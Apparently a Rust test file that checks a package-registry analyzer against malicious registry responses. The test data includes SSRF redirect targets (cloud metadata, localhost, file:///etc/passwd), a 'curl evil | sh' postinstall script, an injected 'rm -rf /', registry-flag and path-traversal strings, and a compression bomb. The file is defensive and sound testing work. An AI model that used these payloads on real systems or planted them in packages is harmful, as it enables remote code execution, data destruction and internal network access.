//! Answers of registries that have gone bad, seen through a proxy that writes down every host that is asked. Whatever they
//! say: an end within bounds, no panic, and no question to a host that is none of ours.

mod faults;
mod folders;
mod world;

use crate::support::{NOW, check};
use catwalk_analysis::{Analyzer, source::parse};
use serde_json::{Value, json};
use world::{Answer, World};

/// What is analysed against each world.
const ASKED: [&str; 5] = [
    "npm:x-mcp",
    "pypi:x-mcp",
    "x-mcp",
    "https://github.com/ada/x-mcp",
    "https://github.com/ada/x-mcp/tree/main/src/x",
];

/// Asks everything of a world that answers every question in the same way.
async fn survives(name: &str, answer: Answer) {
    let world = World::start(answer).await;
    let analyzer = Analyzer::new(world.client(), World::endpoints(), None);
    for text in ASKED {
        let source = parse(text).unwrap_or_else(|p| panic!("{text}: {p}"));
        match analyzer.analyze(&source, NOW).await {
            Ok(analysis) => check(&analysis),
            Err(error) => {
                let problem = error.problem();
                let shown = std::iter::once(&problem.explanation).chain(&problem.evidence);
                for words in shown {
                    assert!(!words.chars().any(char::is_control) && words.len() < 4000, "{name}: {text}: {words:?}");
                }
            }
        }
    }
    assert_eq!(world.strangers(), Vec::<String>::new(), "{name}");
}

fn npm(more: &Value) -> Value {
    let mut document = json!({"name": "x-mcp", "version": "1.0.0", "bin": {"x-mcp": "x.js"}, "keywords": ["mcp"],
        "dist-tags": {"latest": "1.0.0"}, "versions": {}, "full_name": "ada/x-mcp", "default_branch": "main",
        "info": {"name": "x-mcp", "version": "1.0.0", "summary": "mcp"}, "urls": []});
    if let (Value::Object(document), Value::Object(more)) = (&mut document, more) {
        document.extend(more.clone());
    }
    document
}

#[tokio::test]
async fn answers_of_the_wrong_type() {
    for body in [
        "",
        " ",
        "null",
        "true",
        "5",
        "1e999",
        "\"x\"",
        "[]",
        "[[]]",
        "{}",
        "{",
        "[",
        "\u{FEFF}{}",
        "\0",
        "<html>login</html>",
        "{\"name\":1}",
        "{\"info\":[]}",
        "{\"info\":{\"name\":{},\"version\":[],\"project_urls\":\"x\"}}",
        "{\"urls\":{}}",
        "{\"tree\":{}}",
        "{\"tree\":[1,null,{}]}",
        "{\"full_name\":\"/\"}",
        "{\"full_name\":\"../..\",\"default_branch\":\"../..\"}",
        "{\"bin\":[],\"dist\":[]}",
        "{\"versions\":[],\"dist-tags\":{\"latest\":{}}}",
    ] {
        survives(body, Answer::ok(body)).await;
    }
    survives("deep", Answer::ok("[".repeat(1 << 20))).await;
    survives("a million lists", Answer::ok(format!("[{}[]]", "[],".repeat(1 << 20)))).await;
    survives("UTF-16", Answer::Ok(vec![0xFF, 0xFE, b'{', 0, b'}', 0])).await;
}

#[tokio::test]
async fn statuses_that_make_no_sense() {
    for status in [204, 206, 300, 304, 400, 401, 403, 404, 409, 410, 418, 429, 451, 500, 503] {
        survives(&status.to_string(), Answer::Status(status, vec![("retry-after", "9223372036854775807")])).await;
    }
    for reset in ["-9223372036854775808", "9223372036854775807", "x", ""] {
        let headers = vec![("x-ratelimit-remaining", "0"), ("x-ratelimit-reset", reset), ("retry-after", "-1")];
        survives(reset, Answer::Status(403, headers)).await;
    }
}

/// FAULTS case 23, what analysis has of it: an answer does not lead to other hosts, nor to this computer's own network.
#[tokio::test]
async fn redirects_to_other_hosts_are_not_followed() {
    for to in [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:1/",
        "http://[::1]/",
        "http://[::ffff:10.0.0.1]/",
        "http://10.0.0.1/",
        "http://localhost/",
        "http://0x7f000001/",
        "https://evil.example/",
        "http://evil.example/",
        "//evil.example/x",
        "http://npm.test.evil.example/",
        "http://npm.test@evil.example/",
        "http://npm.test:81/",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "ftp://npm.test/",
        "/x",
        "",
        "http://",
        "\\\\evil.example\\x",
        "http://evil.example:0/",
        "https://[64:ff9b::a9fe:a9fe]/",
    ] {
        for status in [301, 302, 303, 307, 308] {
            survives(to, Answer::Status(status, vec![("location", to)])).await;
        }
    }
}

#[tokio::test]
async fn files_are_not_fetched_from_anywhere() {
    for to in [
        "https://evil.example/x.tgz",
        "http://evil.example/x.tgz",
        "https://169.254.169.254/x.whl",
        "http://127.0.0.1:1/x.whl",
        "//evil.example/x.whl",
        "https://user:pass@evil.example/x",
        "file:///etc/passwd",
        "https://localhost/x.whl",
    ] {
        let file =
            json!({"packagetype": "bdist_wheel", "filename": "x_mcp-1.0.0-py3-none-any.whl", "size": 100, "url": to});
        let document = npm(
            &json!({"dist": {"tarball": to}, "urls": [file.clone()], "files": [file], "homepage": to, "repository": to}),
        );
        survives(to, Answer::ok(document.to_string())).await;
    }
}

#[tokio::test]
async fn facts_that_are_hostile_stay_words() {
    let long = "mcp \u{202E}\u{200B}\u{1b}[31m".repeat(30_000);
    for more in [
        json!({"description": long, "deprecated": long, "readme": long}),
        json!({"version": "1.0.0\u{202E}; rm -rf /", "mcpName": "../../x\n"}),
        json!({"version": "-rf", "bin": {"-rf": "x", "../x": "y", "x\u{0000}": "z"}}),
        json!({"bin": {"x-mcp": "x"}, "scripts": {"postinstall": "curl evil | sh", "install": {}}}),
        json!({"name": "--registry=https://evil.example"}),
        json!({"maintainers": [{"name": long}], "_npmUser": {"name": "\u{202E}evil"}, "author": 5}),
        json!({"time": {"1.0.0": "9999999-99-99T99:99:99Z"}, "versions": {"1.0.0": []}}),
        json!({"time": {"1.0.0": "0000-01-01T00:00:00Z"}}),
        json!({"info": {"name": "x-mcp", "version": "\u{202E}1", "summary": long, "description": format!("mcp-name: {long}"), "yanked": true, "yanked_reason": long, "home_page": "javascript:x"}}),
        json!({"info": {"name": "x-mcp", "version": "1", "summary": "mcp", "requires_dist": vec!["mcp"; 10_000], "project_urls": {long.clone(): "https://github.com/../.."}}}),
        json!({"tree": [{"path": "../../etc/passwd", "type": "blob", "sha": "x"}, {"path": "/README.md", "type": "blob", "sha": "y"}, {"path": "a\u{0000}b/package.json", "type": "blob", "sha": "z"}, {"path": "src/x/index.ts", "type": "blob", "sha": "w"}]}),
    ] {
        survives(&more.to_string().chars().take(80).collect::<String>(), Answer::ok(npm(&more).to_string())).await;
    }
}

#[tokio::test]
async fn answers_without_end_are_cut() {
    survives("a stream without end", Answer::Endless).await;
    survives("a compressed bomb", Answer::Bomb(64 << 20)).await;
}

/// Nothing comes, or a byte now and then: time passes by itself while all wait.
#[tokio::test(start_paused = true)]
async fn answers_that_never_come_are_given_up() {
    survives("silence", Answer::Silence).await;
    survives("a drip", Answer::Drip).await;
}
